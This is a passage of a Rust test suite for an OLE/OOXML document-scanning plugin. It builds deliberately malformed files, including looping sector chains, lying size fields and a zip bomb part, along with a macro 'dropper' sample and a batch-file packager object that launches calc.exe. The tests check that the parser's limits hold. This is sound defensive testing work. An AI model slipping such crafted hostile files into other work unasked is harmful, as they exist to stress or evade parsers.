        &PluginTest::new().option("max_stream_size", u32::MAX),
        &huge,
    )
    .unwrap();
    assert_eq!(
        messages(&response),
        [format!(
            "stream WordDocument: declares 4294967280 bytes, more than the whole file ({} bytes)",
            file.len()
        )]
    );
    // The same within the default limits: the size is checked against the file first.
    assert_eq!(
        messages(&bounded(&PluginTest::new(), &huge).unwrap()),
        messages(&response)
    );
    // Version 4 sizes are 64 bits.
    let v4 = CfbBuilder::v4().stream("Big", &[7; 5000]).build();
    let at = entry_offset(&v4, "Big");
    let mut huge = v4.clone();
    huge[at + 120..at + 128].copy_from_slice(&(1u64 << 62).to_le_bytes());
    let response = bounded(
        &PluginTest::new().option("max_stream_size", i64::MAX),
        &huge,
    )
    .unwrap();
    assert_eq!(
        messages(&response),
        [format!(
            "stream Big: declares {} bytes, more than the whole file ({} bytes)",
            1u64 << 62,
            v4.len()
        )]
    );
    // A header declaring more FAT sectors than the file has.
    let mut fat = file.clone();
    put_u32(&mut fat, 44, u32::MAX);
    assert_eq!(
        bounded(&PluginTest::new(), &fat).unwrap_err(),
        TestError::Failed(
            "not a readable OLE2 file: header: 4294967295 FAT sectors declared, but the file holds only 21 sectors".into()
        )
    );
    // A mini stream sector chain looping.
    let mut mini = file.clone();
    let at = entry_offset(&mini, "Module1");
    let first = u32_at(&mini, at + 116);
    let entry = minifat_entry(&mini, first + 1);
    put_u32(&mut mini, entry, first);
    let response = bounded(&PluginTest::new(), &mini).unwrap();
    let expected = format!(
        "stream Macros/VBA/Module1: the mini sector chain loops back to mini sector {first} after 2 mini sectors"
    );
    assert_eq!(
        messages(&response),
        [format!("module Module1: {expected}"), expected]
    );
}

#[test]
fn a_looping_difat_is_an_error() {
    // 130 FAT sectors declared (past the header's 109): the DIFAT chain's only sector points
    // back at itself.
    let mut file = CfbBuilder::new().stream("Big", &[0; 512 * 140]).build();
    let big = u32_at(&file, entry_offset(&file, "Big") + 116);
    put_u32(&mut file, 44, 130);
    put_u32(&mut file, 68, big);
    put_u32(&mut file, 72, 5);
    let at = (big as usize + 1) * 512;
    put_u32(&mut file, at + 508, big);
    let outcome = bounded(&PluginTest::new(), &file);
    let response = outcome.unwrap();
    assert!(
        messages(&response).contains(&format!("DIFAT: the chain loops back to sector {big}")),
        "{:?}",
        messages(&response)
    );
}

#[test]
fn a_directory_tree_that_loops_is_walked_once() {
    let file = word97(&dropper_project());
    // Macros' child subtree points back at Macros itself.
    let macros = entry_offset(&file, "Macros");
    let dir = (u32_at(&file, 48) as usize + 1) * 512;
    let macros_id = ((macros - dir) / 128) as u32;
    let vba = entry_offset(&file, "VBA");
    let mut looped = file.clone();
    put_u32(&mut looped, vba + 68, macros_id); // VBA's left sibling: Macros
    let response = bounded(&PluginTest::new(), &looped).unwrap();
    assert!(
        messages(&response).contains(&format!(
            "directory: entry {macros_id} is reached twice under Macros (the tree loops); its second occurrence is skipped"
        )),
        "{:?}",
        messages(&response)
    );
    assert_eq!(results(&response)["macros"], true);
    // Every entry's siblings and child pointing at entry 1: each is reached once.
    let mut tangled = file.clone();
    for o in (dir..dir + 13 * 128).step_by(128) {
        for field in [68, 72, 76] {
            put_u32(&mut tangled, o + field, 1);
        }
    }
    let response = bounded(&PluginTest::new(), &tangled).unwrap();
    assert!(results(&response)["entries"].as_array().unwrap().len() <= 12);
    assert!(!messages(&response).is_empty());
}

#[test]
fn storages_nested_too_deep_are_not_walked() {
    let path = vec!["d"; 40].join("/");
    let file = CfbBuilder::new()
        .stream(&format!("{path}/s"), b"deep")
        .build();
    let response = bounded(&PluginTest::new(), &file).unwrap();
    let entries = results(&response)["entries"].as_array().unwrap();
    assert_eq!(entries.len(), cfb::MAX_DEPTH);
    assert_eq!(
        messages(&response),
        [format!(
            "directory: storage {} is nested 32 deep (at most 32); its contents are not listed",
            vec!["d"; 32].join("/")
        )]
    );
    assert_eq!(results(&response)["unreachable_entries"], 9);
}

/// A file of `n` streams, each (by its directory entry) naming `window(i)` = (first sector
/// offset, size) of one 64 KiB stream `Big`.
fn aliased(n: usize, window: impl Fn(usize) -> (u32, u32)) -> Vec<u8> {
    let mut b = CfbBuilder::new().stream(
        "Big",
        &(0..65536u32).map(|i| (i % 251) as u8).collect::<Vec<_>>(),
    );
    for i in 0..n {
        b = b.stream(&format!("s{i:04}"), b"");
    }
    let mut file = b.build();
    let big = u32_at(&file, entry_offset(&file, "Big") + 116);
    for i in 0..n {
        let at = entry_offset(&file, &format!("s{i:04}"));
        let (offset, size) = window(i);
        put_u32(&mut file, at + 116, big + offset);
        put_u32(&mut file, at + 120, size);
    }
    file
}

#[test]
fn streams_naming_the_same_data_are_extracted_once() {
    let file = aliased(2000, |_| (0, 65536));
    let response = bounded(&PluginTest::new(), &file).unwrap();
    assert!(response.errors.is_empty(), "{:?}", response.errors);
    assert_eq!(filenames(&response), ["Big"]);
    let entries = results(&response)["entries"].as_array().unwrap();
    assert_eq!(entries.len(), 2001);
    assert_eq!(
        entries[2000],
        json!({"path": "s1999", "type": "stream", "size": 65536, "same_data_as": "Big"})
    );
    // Distinct windows of one block: each copy counts against max_total_size.
    let file = aliased(2000, |i| ((i % 64) as u32, 32 << 10));
    let response = bounded(&PluginTest::new().option("max_total_size", 1 << 20), &file).unwrap();
    // Big (64 KiB) and 30 windows make 1 MiB; the other 34 distinct windows are refused
    // (the rest repeat one of the 64 and are listed as `same_data_as`).
    assert_eq!(response.extracted.len(), 31);
    assert_eq!(
        messages(&response),
        [format!(
            "limit max_total_size (1048576) reached: 34 more ({} bytes) not extracted",
            34 * (32 << 10)
        )]
    );
}

#[test]
fn reading_broken_chains_again_and_again_is_bounded() {
    // 3,000 entries naming distinct windows (sizes differ) of one chain that loops: every
    // attempt fails, and every attempt counts against max_total_size.
    let mut file = aliased(3000, |i| ((i % 8) as u32, 65536 + i as u32));
    let big = u32_at(&file, entry_offset(&file, "Big") + 116);
    let last = fat_entry(&file, big + 127);
    put_u32(&mut file, last, big + 120);
    let start = Instant::now();
    let response = PluginTest::<Ole>::new()
        .option("max_total_size", 8 << 20)
        .scan(&file)
        .unwrap();
    assert!(start.elapsed() < Duration::from_secs(2));
    let all = messages(&response);
    assert_eq!(all.len(), 100 + 2, "{all:?}");
    assert!(
        all[0].starts_with(
            "stream s0001: 65537 bytes declared in 129 sectors; data: the sector chain loops back"
        ),
        "{}",
        all[0]
    );
    assert!(
        all[100].ends_with("more unreadable streams not listed"),
        "{}",
        all[100]
    );
    assert!(
        all[101].starts_with("limit max_total_size (8388608) reached: "),
        "{}",
        all[101]
    );
}

#[test]
fn the_extraction_limits_hold_and_name_themselves() {
    let file = word97(&dropper_project());
    let response = PluginTest::<Ole>::new()
        .option("max_streams", "3")
        .scan(&file)
        .unwrap();
    assert_eq!(
        filenames(&response),
        ["\u{1}CompObj", "\u{5}SummaryInformation", "1Table"]
    );
    assert_eq!(
        messages(&response),
        ["limit max_streams (3) reached: 7 more not extracted"]
    );
    let response = PluginTest::<Ole>::new()
        .option("max_stream_size", 500)
        .scan(&file)
        .unwrap();
    assert_eq!(
        messages(&response),
        [
            "stream Macros/VBA/dir: 619 bytes, over max_stream_size (500)",
            "stream 1Table: 600 bytes, over max_stream_size (500); not extracted",
            "stream Macros/VBA/Module1: 524 bytes, over max_stream_size (500); not extracted",
            "stream Macros/VBA/dir: 619 bytes, over max_stream_size (500); not extracted",
            "stream WordDocument: 4608 bytes, over max_stream_size (500); not extracted",
        ]
    );
    // The host's limits cap the options, and errors name the host's limit.
    let response = PluginTest::<Ole>::new()
        .limits(HostLimits::new(1000, 700, 2))
        .scan(&file)
        .unwrap();
    assert_eq!(
        filenames(&response),
        ["\u{1}CompObj", "\u{5}SummaryInformation"]
    );
    assert_eq!(
        messages(&response),
        ["limit max_extracted_payloads (2) reached: 8 more not extracted"]
    );
    let response = PluginTest::<Ole>::new()
        .limits(HostLimits::new(1000, 700, 100))
        .scan(&file)
        .unwrap();
    assert_eq!(
        messages(&response),
        [
            "stream WordDocument: 4608 bytes, over max_payload_size (1000); not extracted",
            "limit max_extracted_bytes (700) reached: 4 more (1863 bytes) not extracted",
        ]
    );
    // extract_streams = false lists and reads macros, extracts nothing.
    let response = PluginTest::<Ole>::new()
        .option("extract_streams", "no")
        .scan(&file)
        .unwrap();
    assert!(response.extracted.is_empty());
    assert_eq!(results(&response)["macros"], true);
}

#[test]
fn macro_source_is_cut_at_max_code_size() {
    let file = word97(&dropper_project());
    let response = PluginTest::<Ole>::new()
        .option("max_code_size", 300)
        .scan(&file)
        .unwrap();
    let modules = &results(&response)["vba_projects"][0]["modules"];
    let this_len = this_document("").len();
    assert_eq!(modules[0]["truncated"], false);
    assert_eq!(modules[1]["truncated"], true);
    assert_eq!(
        modules[1]["code"].as_str().unwrap(),
        &module("Module1", DROPPER)[..300 - this_len]
    );
    assert_eq!(
        messages(&response),
        ["module Module1 (stream Macros/VBA/Module1): macro source over max_code_size (300); cut"]
    );
}

#[test]
fn a_zip_bomb_part_is_refused_unread() {
    let project = dropper_project();
    let zeros = vec![0u8; 32 << 20];
    let package = deflated_docm(&project, &[("word/embeddings/big.bin", &zeros)]);
    assert!(package.len() < 1 << 20);
    let start = Instant::now();
    let response = PluginTest::<Ole>::new()
        .option("max_stream_size", 1 << 20)
        .scan(&package)
        .unwrap();
    assert!(start.elapsed() < Duration::from_secs(2));
    assert_eq!(
        messages(&response),
        [
            "part word/embeddings/big.bin: 33554432 bytes, over max_stream_size (1048576); not extracted"
        ]
    );
    assert_eq!(
        filenames(&response),
        ["word/vbaProject.bin", "word/embeddings/oleObject1.bin"]
    );
    // An end of central directory declaring 60,000 entries in a 65-byte central directory:
    // refused before the zip crate sizes its tables by it.
    let mut lying = stored_zip(&[("[Content_Types].xml", b"<Types/>")]);
    let eocd = lying.len() - 22;
    lying[eocd + 8..eocd + 12].copy_from_slice(&[0x60, 0xEA, 0x60, 0xEA]);
    assert_eq!(
        scan_err(&lying),
        format!(
            "not a readable zip: its end of central directory declares 60000 entries, more than its 65-byte central directory in a {}-byte file can hold",
            lying.len()
        )
    );
    // A zip that is no package.
    let plain = stored_zip(&[("a.txt", b"a")]);
    assert_eq!(
        scan_err(&plain),
        "a zip, but neither an OOXML package (no [Content_Types].xml) nor an ODF one (no mimetype or META-INF/manifest.xml)"
    );
}

fn scan_err(data: &[u8]) -> String {
    match PluginTest::<Ole>::new().scan(data) {
        Err(TestError::Failed(message)) => message,
        other => panic!("{other:?}"),
    }
}

#[test]
fn options_are_declared_with_the_defaults_inspect_uses() {
    let declared: Vec<(&str, OptionKind, Option<Value>)> = Ole::INFO
        .options
        .iter()
        .map(|o| (o.name, o.kind, o.default_value()))
        .collect();
    assert_eq!(
        declared,
        [
            ("max_streams", OptionKind::Int, Some(json!(1000))),
            ("max_stream_size", OptionKind::Int, Some(json!(64 << 20))),
            ("max_total_size", OptionKind::Int, Some(json!(256 << 20))),
            ("max_code_size", OptionKind::Int, Some(json!(4 << 20))),
            ("extract_streams", OptionKind::Bool, Some(json!(true))),
        ]
    );
    assert!(Ole::INFO.options.iter().all(|o| !o.doc.is_empty()));
    let defaults = Limits::default();
    assert_eq!(
        (
            defaults.max_streams,
            defaults.max_stream_size,
            defaults.max_total_size,
            defaults.max_code_size,
            defaults.extract_streams
        ),
        (1000, 64 << 20, 256 << 20, 4 << 20, true)
    );
    let test = PluginTest::<Ole>::new()
        .option("max_streams", 5)
        .option("max_stream_size", 5)
        .option("max_total_size", 5)
        .option("max_code_size", 5)
        .option("extract_streams", false);
    assert_eq!(test.unused_options(), Ok(vec![]));
}

#[test]
fn a_bad_option_value_is_a_config_error_naming_the_key() {
    let cases = [
        (
            "max_streams",
            json!("lots"),
            "plugin `ole`: option `max_streams`: expected an integer, got \"lots\"",
        ),
        (
            "max_stream_size",
            json!(1.5),
            "plugin `ole`: option `max_stream_size`: expected an integer, got 1.5",
        ),
        (
            "max_total_size",
            json!(-1),
            "plugin `ole`: option `max_total_size`: must be >= 0, got -1",
        ),
        (
            "max_code_size",
            json!("-5"),
            "plugin `ole`: option `max_code_size`: must be >= 0, got -5",
        ),
        (
            "extract_streams",
            json!("sometimes"),
            "plugin `ole`: option `extract_streams`: expected a boolean, got \"sometimes\"",
        ),
    ];
    for (key, value, message) in cases {
        let test = PluginTest::<Ole>::new().option(key, value.clone());
        assert_eq!(
            test.scan(b"x").unwrap_err(),
            TestError::Config(message.to_owned()),
            "{key} = {value}"
        );
    }
}

/// The samples of the golden files (and of the comparison with oletools: run the tests with
/// `STOQ_GOLDEN_SAMPLES=DIR` to write them there).
///
/// After an intended change, regenerate them and review the diff:
/// `STOQ_UPDATE_GOLDEN=1 cargo test -p stoq-plugin-ole golden`
#[test]
fn golden_files() {
    let project = dropper_project();
    let mut compressed = project.clone();
    compressed.copy_tokens = true;
    compressed.text_offset = 0x53;
    let samples: Vec<(&str, Vec<u8>)> = vec![
        ("dropper_doc.json", word97(&project)),
        ("dropper_vbaProject_bin.json", compressed.bin()),
        ("dropper_docm.json", docm(&project)),
        (
            "packager_object.json",
            packager_object("run.bat", b"@echo off\r\ncalc.exe\r\n"),
        ),
    ];
    let test = PluginTest::<Ole>::new();
    let cases: Vec<(String, Value)> = samples
        .iter()
        .map(|(name, data)| {
            let sample = name
                .replace("_doc.json", ".doc")
                .replace("_docm.json", ".docm")
                .replace("_bin.json", ".bin")
                .replace(".json", ".bin");
            golden::dump_sample(&sample, data);
            ((*name).to_owned(), golden::worker_output(&test.scan(data)))
        })
        .collect();
    golden::check(env!("CARGO_MANIFEST_DIR"), env!("CARGO_PKG_NAME"), &cases);
}

/// Throughput on the docm-like sample and the Word 97 file, in release mode:
/// `cargo test --release -p stoq-plugin-ole -- --ignored bench --nocapture`.
#[test]
#[ignore = "a measurement, not a test"]
fn bench() {
    let start = Instant::now();
    let _ = scan::analyse(DROPPER);
    println!(
        "keyword tables compiled and first scan: {:?}",
        start.elapsed()
    );
    let mut big = String::new();
    while big.len() < 4 << 20 {
        big.push_str(DROPPER);
        big.push_str("    x = y + 1 ' an ordinary line of code\r\n");
    }
    let start = Instant::now();
    let _ = scan::analyse(&big);
    let took = start.elapsed();
    println!(
        "keyword scan of {} bytes of code: {took:?}, {:.1} MB/s",
        big.len(),
        big.len() as f64 / took.as_secs_f64() / 1e6
    );
    // Non-ASCII text (comments in another language) in the same amount of code.
    let accented = big.replace("an ordinary line", "une ligne très ordinaire, été");
    let start = Instant::now();
    let _ = scan::analyse(&accented);
    let took = start.elapsed();
    println!(
        "keyword scan of {} bytes of non-ASCII code: {took:?}, {:.1} MB/s",
        accented.len(),
        accented.len() as f64 / took.as_secs_f64() / 1e6
    );
    let project = dropper_project();
    for (name, data) in [
        ("dropper.doc", word97(&project)),
        ("vbaProject.bin", project.bin()),
        ("dropper.docm", docm(&project)),
    ] {
        let test = PluginTest::<Ole>::new();
        let _ = test.scan(&data);
        let n = 2000;
        let start = Instant::now();
        for _ in 0..n {
            let _ = inspect(&data).unwrap();
        }
        let per = start.elapsed() / n;
        println!(
            "{name}: {} bytes, {per:?} per scan, {:.1} MB/s",
            data.len(),
            data.len() as f64 / per.as_secs_f64() / 1e6
        );
    }
}
